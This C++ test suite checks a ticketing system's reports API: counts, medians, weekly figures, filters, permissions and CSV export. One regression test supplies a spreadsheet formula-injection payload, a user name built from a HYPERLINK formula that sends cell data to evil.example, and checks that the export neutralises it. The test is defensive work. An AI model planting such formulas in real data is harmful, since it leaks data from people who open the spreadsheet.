// Reports (F16) end to end on both engines: tickets created, assigned, answered and closed
// over four weeks of a fake clock, then every figure of GET /api/v1/reports checked, as
// JSON and as CSV, with filters by date and workflow, the right it needs and the 422s.
#include <gtest/gtest.h>

#include <algorithm>
#include <map>
#include <string>
#include <vector>

#include "core/csv.h"
#include "support/test_app.h"

namespace redress {
namespace {

using test::EngineParam;
using json = nlohmann::json;

TimePoint at(const std::string& rfc3339) {
  TimePoint t;
  EXPECT_TRUE(parse_rfc3339(rfc3339, t)) << rfc3339;
  return t;
}

// The story, in clock order (UTC). The report's range is 2026-11-02 (Monday of W45) to
// 2026-11-25 (Wednesday of W48); W46 has nothing at all.
//   T0 support  created 10-28 (before the range), answered, closed 11-04
//   T1 support  11-02 09:00, billing, mail, assignee Alice; Alice replies 10:00 (1 h); closed 11-03 09:00 (1 day)
//   T2 support  11-03 12:00, delivery, phone, nobody; a note 12:30 and the customer 13:00 do not
//               count, Bruno replies 14:00 (2 h)
//   T3 support  11-17 08:00, no reason, mail, assignee Bruno; Bruno replies 08:30 (30 min)
//   T4 investigation 11-18 12:00, staff, investigator Alice and commercial assignee Bruno;
//               closed 11-25 12:00 (7 days), never answered
//   T5 support  11-24 10:00, billing, staff, assignee Alice; Alice replies 11:30 (1 h 30); closed 16:00 (6 h)
//   T6 support  11-25 23:59:59, the range's last second, portal, nobody
//   T7 support  11-26 00:00, just after the range
class ReportsTest : public ::testing::TestWithParam<EngineParam> {
 protected:
  void SetUp() override {
    REDRESS_START_TEST_APP(GetParam(), app_);
    admin_ = app_->add_user("admin@example.com", "admin");
    alice_ = app_->add_user("alice@example.com", "agent");
    bruno_ = app_->add_user("bruno@example.com", "agent");
    viewer_ = app_->add_user("vera@example.com", "viewer");
    analyst_ = app_->add_user("ana@example.com", "agent", "reports.view");
    customer_ = app_->add_user("jeanne@client.example", "customer");
    billing_ = reason("billing", "Billing, invoices", "Facturation");
    delivery_ = reason("delivery", "Delivery", "Livraison");

    auto t0 = ticket("2026-10-28T10:00:00Z", {{"reason", billing_}});
    reply(alice_, t0, "2026-10-28T10:30:00Z");
    t1_ = ticket("2026-11-02T09:00:00Z", {{"reason", billing_}, {"channel", "mail"}, {"assignees", {{"assignee", "alice@example.com"}}}});
    reply(alice_, t1_, "2026-11-02T10:00:00Z");
    transition(t1_, "close", "2026-11-03T09:00:00Z");
    auto t2 = ticket("2026-11-03T12:00:00Z", {{"reason", delivery_}, {"channel", "phone"}});
    reply(alice_, t2, "2026-11-03T12:30:00Z", "internal");
    customer_message(t2, "2026-11-03T13:00:00Z");
    reply(bruno_, t2, "2026-11-03T14:00:00Z");
    transition(t0, "close", "2026-11-04T10:00:00Z");
    auto t3 = ticket("2026-11-17T08:00:00Z", {{"channel", "mail"}, {"assignees", {{"assignee", "bruno@example.com"}}}});
    reply(bruno_, t3, "2026-11-17T08:30:00Z");
    auto t4 = ticket("2026-11-18T12:00:00Z", {{"workflow", "complaint-investigation"},
                                              {"assignees", {{"investigator", "alice@example.com"},
                                                             {"commercial_assignee", "bruno@example.com"}}}});
    transition(t4, "investigate", "2026-11-18T13:00:00Z");
    transition(t4, "review", "2026-11-19T13:00:00Z");
    auto t5 = ticket("2026-11-24T10:00:00Z", {{"reason", billing_}, {"assignees", {{"assignee", "alice@example.com"}}}});
    reply(alice_, t5, "2026-11-24T11:30:00Z");
    transition(t5, "close", "2026-11-24T16:00:00Z");
    transition(t4, "close", "2026-11-25T12:00:00Z");
    ticket("2026-11-25T23:59:59Z", {{"channel", "portal"}});
    ticket("2026-11-26T00:00:00Z", {});
    app_->clock().set(at("2026-11-26T12:00:00Z"));
  }

  test::TestResponse call(const test::TestUser& u, const std::string& method, const std::string& path,
                          const json& body = nullptr) {
    return app_->call(u.token, method, path, body.is_null() ? "" : body.dump());
  }

  int64_t reason(const std::string& code, const std::string& en, const std::string& fr) {
    auto r = call(admin_, "POST", "/api/v1/reasons",
                  {{"workflow", "support-request"}, {"code", code}, {"labels", {{"en", en}, {"fr", fr}}}});
    EXPECT_EQ(r.status, 201) << r.body;
    return r.json().value("id", int64_t{0});
  }

  // A ticket created at `when` by an agent, Jeanne its contact; support-request unless said.
  std::string ticket(const std::string& when, const json& extra) {
    app_->clock().set(at(when));
    json body = {{"workflow", "support-request"},
                 {"subject", "Ticket of " + when},
                 {"contacts", json::array({{{"email", "jeanne@client.example"}, {"name", "Jeanne"}, {"main", true}}})}};
    for (auto& [k, v] : extra.items()) body[k] = v;
    auto r = call(alice_, "POST", "/api/v1/tickets", body);
    EXPECT_EQ(r.status, 201) << r.body;
    return "/api/v1/tickets/" + std::to_string(r.json().value("id", int64_t{0}));
  }

  void reply(const test::TestUser& u, const std::string& ticket, const std::string& when,
             const std::string& visibility = "public") {
    app_->clock().set(at(when));
    auto r = call(u, "POST", ticket + "/messages", {{"body", "About your request"}, {"visibility", visibility}});
    EXPECT_EQ(r.status, 201) << r.body;
  }

  void customer_message(const std::string& ticket, const std::string& when) {
    app_->clock().set(at(when));
    auto r = call(customer_, "POST", ticket + "/messages", {{"body", "Any news?"}});
    EXPECT_EQ(r.status, 201) << r.body;
  }

  void transition(const std::string& ticket, const std::string& name, const std::string& when) {
    app_->clock().set(at(when));
    auto r = call(alice_, "POST", ticket + "/transitions", {{"transition", name}});
    EXPECT_EQ(r.status, 200) << name << ": " << r.body;
  }

  json report(const std::string& query, const test::TestUser* who = nullptr) {
    auto r = call(who ? *who : viewer_, "GET", "/api/v1/reports" + query);
    EXPECT_EQ(r.status, 200) << query << ": " << r.body;
    return r.json();
  }

  static std::map<std::string, int64_t> counts(const json& rows, const std::string& key) {
    std::map<std::string, int64_t> out;
    for (const auto& r : rows) out[r[key].is_null() ? "(none)" : r[key].dump()] = r["count"].get<int64_t>();
    return out;
  }

  void expect_invalid(const std::string& query, const std::string& field, const test::TestUser* who = nullptr) {
    auto r = call(who ? *who : viewer_, "GET", "/api/v1/reports" + query);
    EXPECT_EQ(r.status, 422) << query << ": " << r.body;
    EXPECT_TRUE(r.json()["error"]["fields"].contains(field)) << query << ": " << r.body;
  }

  static constexpr const char* kRange = "?from=2026-11-02&to=2026-11-25";

  std::unique_ptr<test::TestApp> app_;
  test::TestUser admin_, alice_, bruno_, viewer_, analyst_, customer_;
  int64_t billing_ = 0, delivery_ = 0;
  std::string t1_;
};

TEST_P(ReportsTest, CountsEveryTableOverTheTicketsCreatedInTheRange) {
  const json r = report(kRange);
  EXPECT_EQ(r["from"], "2026-11-02");
  EXPECT_EQ(r["to"], "2026-11-25");
  EXPECT_TRUE(r["workflow"].is_null());
  // T1 to T6: T0 is older, T7 newer; T6 came in the range's last second.
  EXPECT_EQ(r["total"], 6);

  // "closed" is a status of both workflows: one row, labelled by the first that has it.
  EXPECT_EQ(r["by_status"], json::parse(R"([
    {"status": "closed", "label": "Closed", "count": 3},
    {"status": "new_request", "label": "New request", "count": 3}])"));
  // The row without a reason comes first by count, with nulls for the client to word.
  EXPECT_EQ(r["by_reason"], json::parse(R"([
    {"reason": null, "code": null, "label": null, "count": 3},
    {"reason": )" + std::to_string(billing_) + R"(, "code": "billing", "label": "Billing, invoices", "count": 2},
    {"reason": )" + std::to_string(delivery_) + R"(, "code": "delivery", "label": "Delivery", "count": 1}])"));
  // T4 counts for both of its assignees; Bruno's 2 ties with nobody's 2: named first.
  EXPECT_EQ(r["by_assignee"], json::parse(R"([
    {"user": )" + std::to_string(alice_.user.id) + R"(, "name": "User alice", "count": 3},
    {"user": )" + std::to_string(bruno_.user.id) + R"(, "name": "User bruno", "count": 2},
    {"user": null, "name": null, "count": 2}])"));
  EXPECT_EQ(r["by_channel"], json::parse(R"([
    {"channel": "mail", "count": 2}, {"channel": "staff", "count": 2},
    {"channel": "phone", "count": 1}, {"channel": "portal", "count": 1}])"));
  // Every week of the range, W46 with zeros. T0, created before the range, counts as
  // closed in W45; T4 (the other workflow) as closed in W48.
  EXPECT_EQ(r["weekly"], json::parse(R"([
    {"week": "2026-W45", "start": "2026-11-02", "created": 2, "closed": 2},
    {"week": "2026-W46", "start": "2026-11-09", "created": 0, "closed": 0},
    {"week": "2026-W47", "start": "2026-11-16", "created": 2, "closed": 0},
    {"week": "2026-W48", "start": "2026-11-23", "created": 2, "closed": 2}])"));
  // First responses 1 h, 2 h, 30 min and 1 h 30: the median of an even count is the mean
  // of the middle two. The note and the customer's message on T2 did not count.
  EXPECT_EQ(r["first_response"], json::parse(R"({"median_seconds": 4500, "count": 4})"));
  // Resolutions 1 day, 6 h and 7 days: the middle one.
  EXPECT_EQ(r["resolution"], json::parse(R"({"median_seconds": 86400, "count": 3})"));
}

TEST_P(ReportsTest, WorkflowFilterAppliesToEveryTableAndToTheClosedWeeks) {
  const json r = report(std::string(kRange) + "&workflow=support-request");
  EXPECT_EQ(r["workflow"], "support-request");
  EXPECT_EQ(r["total"], 5);
  EXPECT_EQ(r["by_status"], json::parse(R"([
    {"status": "new_request", "label": "New request", "count": 3},
    {"status": "closed", "label": "Request closed", "count": 2}])"));
  EXPECT_EQ(counts(r["by_reason"], "code"), (std::map<std::string, int64_t>{{"(none)", 2}, {"\"billing\"", 2}, {"\"delivery\"", 1}}));
  EXPECT_EQ(counts(r["by_assignee"], "name"),
            (std::map<std::string, int64_t>{{"(none)", 2}, {"\"User alice\"", 2}, {"\"User bruno\"", 1}}));
  EXPECT_EQ(counts(r["by_channel"], "channel"),
            (std::map<std::string, int64_t>{{"\"mail\"", 2}, {"\"phone\"", 1}, {"\"portal\"", 1}, {"\"staff\"", 1}}));
  EXPECT_EQ(r["weekly"][2], json::parse(R"({"week": "2026-W47", "start": "2026-11-16", "created": 1, "closed": 0})"));
  EXPECT_EQ(r["weekly"][3], json::parse(R"({"week": "2026-W48", "start": "2026-11-23", "created": 2, "closed": 1})"));
  EXPECT_EQ(r["first_response"], json::parse(R"({"median_seconds": 4500, "count": 4})"));
  // 1 day and 6 h: an even count again.
  EXPECT_EQ(r["resolution"], json::parse(R"({"median_seconds": 54000, "count": 2})"));

  const json other = report(std::string(kRange) + "&workflow=complaint-investigation");
  EXPECT_EQ(other["total"], 1);
  EXPECT_EQ(other["weekly"][0]["closed"], 0);
  EXPECT_EQ(other["weekly"][3]["closed"], 1);
  EXPECT_EQ(other["first_response"], json::parse(R"({"median_seconds": null, "count": 0})"));
}

TEST_P(ReportsTest, DateFilterNarrowsTheScopeAndTheWeeks) {
  // The first two weeks and a day: T1, T2 and T3, which makes odd counts.
  const json r = report("?from=2026-11-02&to=2026-11-17");
  EXPECT_EQ(r["total"], 3);
  EXPECT_EQ(r["first_response"], json::parse(R"({"median_seconds": 3600, "count": 3})"));
  EXPECT_EQ(r["resolution"], json::parse(R"({"median_seconds": 86400, "count": 1})"));
  ASSERT_EQ(r["weekly"].size(), 3u);
  EXPECT_EQ(r["weekly"][2], json::parse(R"({"week": "2026-W47", "start": "2026-11-16", "created": 1, "closed": 0})"));

  // One day in the middle of a week: that week only, counting only that day.
  const json day = report("?from=2026-11-04&to=2026-11-04");
  EXPECT_EQ(day["total"], 0);
  EXPECT_EQ(day["weekly"], json::parse(R"([{"week": "2026-W45", "start": "2026-11-02", "created": 0, "closed": 1}])"));
  EXPECT_EQ(day["by_status"], json::array());
  EXPECT_EQ(day["first_response"], json::parse(R"({"median_seconds": null, "count": 0})"));

  // Without dates: the 30 days up to today (the clock says 2026-11-26), T0 and T7 included.
  const json recent = report("");
  EXPECT_EQ(recent["from"], "2026-10-28");
  EXPECT_EQ(recent["to"], "2026-11-26");
  EXPECT_EQ(recent["total"], 8);
  ASSERT_EQ(recent["weekly"].size(), 5u);
  EXPECT_EQ(recent["weekly"][0]["week"], "2026-W44");
  // Only `to`: the 30 days up to it.
  EXPECT_EQ(report("?to=2026-11-25")["from"], "2026-10-27");
  // A report across the new year numbers weeks by ISO years.
  const json newyear = report("?from=2026-12-28&to=2027-01-04");
  EXPECT_EQ(newyear["weekly"][0]["week"], "2026-W53");
  EXPECT_EQ(newyear["weekly"][1]["week"], "2027-W01");
}

TEST_P(ReportsTest, LabelsAreInTheCallersLanguage) {
  auto french = app_->add_user("valerie@example.com", "viewer");
  auto patched = call(french, "PATCH", "/api/v1/users/" + std::to_string(french.user.id), {{"language", "fr"}});
  ASSERT_EQ(patched.status, 200) << patched.body;
  const json r = report(std::string(kRange) + "&workflow=support-request", &french);
  EXPECT_EQ(r["by_status"][1]["label"], "Demande clôturée");
  EXPECT_EQ(r["by_status"][0]["label"], "Nouvelle demande");
  std::map<std::string, std::string> labels;
  for (const auto& row : r["by_reason"]) {
    if (!row["code"].is_null()) labels[row["code"]] = row["label"];
  }
  EXPECT_EQ(labels, (std::map<std::string, std::string>{{"billing", "Facturation"}, {"delivery", "Livraison"}}));
}

TEST_P(ReportsTest, NeedsTheReportsRight) {
  auto agent = call(alice_, "GET", std::string("/api/v1/reports") + kRange);
  EXPECT_EQ(agent.status, 403) << agent.body;
  EXPECT_EQ(agent.json()["error"]["code"], "right_missing");
  // The right comes before the parameters: no 422 tells an agent anything.
  EXPECT_EQ(call(alice_, "GET", "/api/v1/reports?from=nonsense").status, 403);
  EXPECT_EQ(call(customer_, "GET", "/api/v1/reports").status, 403);
  EXPECT_EQ(app_->call("", "GET", "/api/v1/reports").status, 401);
  EXPECT_EQ(report(kRange, &analyst_)["total"], 6);  // an agent granted reports.view
  EXPECT_EQ(report(kRange, &admin_)["total"], 6);
  // The name API.md gives answers the same.
  auto summary = call(viewer_, "GET", std::string("/api/v1/reports/summary") + kRange);
  ASSERT_EQ(summary.status, 200) << summary.body;
  EXPECT_EQ(summary.json(), report(kRange));
}

TEST_P(ReportsTest, BadParametersAre422NamingTheField) {
  expect_invalid("?from=2026-13-01", "from");
  expect_invalid("?from=2026-11-02T00:00:00Z", "from");
  expect_invalid("?to=2026-11-5", "to");
  expect_invalid("?from=2026-11-10&to=2026-11-09", "to");
  // Without `to`, a `from` after today is what is wrong.
  expect_invalid("?from=2026-12-01", "from");
  expect_invalid("?from=2023-11-25&to=2026-11-25", "to");  // 1097 days: more than 3 years
  expect_invalid("?workflow=nope", "workflow");
  expect_invalid("?format=xml", "format");
  expect_invalid("?colour=red", "colour");
  // Exactly three years is allowed.
  EXPECT_EQ(report("?from=2023-11-26&to=2026-11-25")["from"], "2023-11-26");
}

TEST_P(ReportsTest, CsvHasOneRowPerFigure) {
  const std::string query = std::string(kRange) + "&workflow=support-request";
  auto r = call(viewer_, "GET", "/api/v1/reports" + query + "&format=csv");
  ASSERT_EQ(r.status, 200) << r.body;
  EXPECT_EQ(r.header("content-type"), "text/csv; charset=utf-8");
  EXPECT_EQ(r.header("content-disposition"), "attachment; filename=\"redress-report-2026-11-02-2026-11-25.csv\"");
  EXPECT_TRUE(r.body.starts_with("table,key,label,value\r\ntotal,,,5\r\n")) << r.body;
  for (const std::string& row : std::vector<std::string>{
           "by_status,new_request,New request,3\r\n",
           "by_status,closed,Request closed,2\r\n",
           "by_reason,billing,\"Billing, invoices\",2\r\n",
           "by_reason,,,2\r\n",
           "by_assignee," + std::to_string(alice_.user.id) + ",User alice,2\r\n",
           "by_assignee,,,2\r\n",
           "by_channel,mail,mail,2\r\n",
           "weekly,2026-W46,created,0\r\nweekly,2026-W46,closed,0\r\n",
           "weekly,2026-W48,created,2\r\nweekly,2026-W48,closed,1\r\n",
           "first_response,median_seconds,,4500\r\nfirst_response,count,,4\r\n",
           "resolution,median_seconds,,54000\r\nresolution,count,,2\r\n",
       }) {
    EXPECT_NE(r.body.find(row), std::string::npos) << row << "in:\n" << r.body;
  }
  // Every record has the four columns, commas in labels notwithstanding.
  CsvReader reader(r.body);
  int records = 0;
  while (auto record = reader.next()) {
    if (!*record) break;
    EXPECT_EQ((*record)->fields.size(), 4u) << (*record)->line;
    ++records;
  }
  // Header, total, 2 statuses, 3 reasons, 3 assignees, 4 channels, 4 weeks x 2, 2 x 2.
  EXPECT_EQ(records, 1 + 1 + 2 + 3 + 3 + 4 + 8 + 4);

  // Asking by Accept gives the same file; a JSON-first Accept gives JSON.
  auto accepted = app_->client()->request("GET", "/api/v1/reports" + query, "",
                                          {{"Authorization", "Bearer " + viewer_.token}, {"Accept", "text/csv"}});
  ASSERT_EQ(accepted.status, 200);
  EXPECT_EQ(accepted.body, r.body);
  auto json_first = app_->client()->request(
      "GET", "/api/v1/reports" + query, "",
      {{"Authorization", "Bearer " + viewer_.token}, {"Accept", "application/json, text/csv;q=0.5"}});
  EXPECT_EQ(json_first.json()["total"], 5);
}

// Issue 24: names and labels that people choose went out as spreadsheet formulas.
TEST_P(ReportsTest, CsvCellsThatASpreadsheetWouldRunAreWrittenAsText) {
  auto formula_user = call(admin_, "POST", "/api/v1/users",
                           {{"email", "mallory@example.com"},
                            {"name", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")"},
                            {"role", "agent"},
                            {"password", "password-mallory-1234"}});
  ASSERT_EQ(formula_user.status, 201) << formula_user.body;
  const int64_t formula_reason = reason("formula", "=1+2", "@SUM(A1:A9)");
  ticket("2026-11-26T08:00:00Z", {{"reason", formula_reason}, {"assignees", {{"assignee", "mallory@example.com"}}}});
  app_->clock().set(at("2026-11-26T12:00:00Z"));

  auto french = app_->add_user("valerie@example.com", "viewer");
  ASSERT_EQ(call(french, "PATCH", "/api/v1/users/" + std::to_string(french.user.id), {{"language", "fr"}}).status, 200);
  for (const auto* who : {&viewer_, &french}) {
    auto r = call(*who, "GET", "/api/v1/reports?from=2026-11-26&to=2026-11-26&format=csv");
    ASSERT_EQ(r.status, 200) << r.body;
    CsvReader reader(r.body);
    std::vector<std::string> labels;
    while (auto record = reader.next()) {
      if (!*record) break;
      for (const auto& f : (*record)->fields) {
        EXPECT_FALSE(!f.empty() && (f[0] == '=' || f[0] == '+' || f[0] == '-' || f[0] == '@')) << f << " in\n" << r.body;
      }
      labels.push_back((*record)->fields.at(2));
    }
    const std::string reason_label = who == &viewer_ ? "'=1+2" : "'@SUM(A1:A9)";
    EXPECT_NE(std::find(labels.begin(), labels.end(), reason_label), labels.end()) << r.body;
    EXPECT_NE(std::find(labels.begin(), labels.end(), "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")"), labels.end())
        << r.body;
  }
  // The JSON report keeps the text as it is: only spreadsheets need the guard.
  auto j = report("?from=2026-11-26&to=2026-11-26");
  EXPECT_EQ(j["by_reason"][0]["label"], "=1+2") << j.dump();
}

TEST_P(ReportsTest, AMedianThatIsNotAWholeNumberOfSecondsKeepsItsFraction) {
  const auto at_once = ticket("2026-11-26T13:00:00Z", {});
  reply(bruno_, at_once, "2026-11-26T13:00:00Z");
  const auto a_second_later = ticket("2026-11-26T13:00:00Z", {});
  reply(bruno_, a_second_later, "2026-11-26T13:00:01Z");
  const json today = report("?from=2026-11-26&to=2026-11-26");
  EXPECT_EQ(today["first_response"], json::parse(R"({"median_seconds": 0.5, "count": 2})")) << today;
  auto csv = call(viewer_, "GET", "/api/v1/reports?from=2026-11-26&to=2026-11-26&format=csv");
  EXPECT_NE(csv.body.find("first_response,median_seconds,,0.5\r\n"), std::string::npos) << csv.body;
}

INSTANTIATE_TEST_SUITE_P(Engines, ReportsTest, ::testing::Values(EngineParam::kSqlite, EngineParam::kPostgres),
                         [](const auto& info) { return test::engine_name(info.param); });

}  // namespace
}  // namespace redress
